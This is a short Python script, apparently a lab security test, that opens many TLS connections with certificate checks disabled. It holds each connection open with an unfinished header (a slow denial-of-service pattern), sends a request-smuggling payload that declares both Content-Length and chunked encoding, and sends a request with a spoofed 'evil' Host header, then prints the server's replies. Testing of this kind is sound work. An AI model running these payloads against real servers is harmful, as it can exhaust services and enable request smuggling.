"""Sends requests that are not whole, or not right, to a server: `… ADDRESS PORT COUNT`.

Runs inside the lab's network and prints what came back as JSON, each answer until the close.
"""

from __future__ import annotations

import contextlib
import json
import socket
import ssl
import sys

_PATIENCE_S = 120.0
_TWICE = b"Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"


def main(address: str, port: int, count: int) -> None:
    halves = [_dialled(address, port) for _ in range(count)]
    for each in halves:
        each.sendall(b"GET /healthz HTTP/1.1\r\nHost: x\r\nX-Slow: ")
    # Whoever waits for this line knows that they are all open.
    print("open", flush=True)
    smuggling = _dialled(address, port)
    smuggling.sendall(b"POST /v1/allocations HTTP/1.1\r\nHost: x\r\n" + _TWICE)
    leading_out = _dialled(address, port)
    leading_out.sendall(b"GET /healthz/ HTTP/1.1\r\nHost: evil\r\nConnection: close\r\n\r\n")
    answers = {
        "smuggling": _read(smuggling),
        "leading_out": _read(leading_out),
        "halves": [_read(each) for each in halves],
    }
    print(json.dumps(answers))


def _dialled(address: str, port: int) -> ssl.SSLSocket:
    # Whom it speaks to is no matter here, only what becomes of the connection.
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    return context.wrap_socket(socket.create_connection((address, port), timeout=_PATIENCE_S))


def _read(connection: ssl.SSLSocket) -> str:
    content = b""
    with connection, contextlib.suppress(ConnectionResetError, ssl.SSLEOFError):
        while part := connection.recv(65_536):
            content += part
    return content.decode("latin-1")


if __name__ == "__main__":
    main(sys.argv[1], int(sys.argv[2]), int(sys.argv[3]))
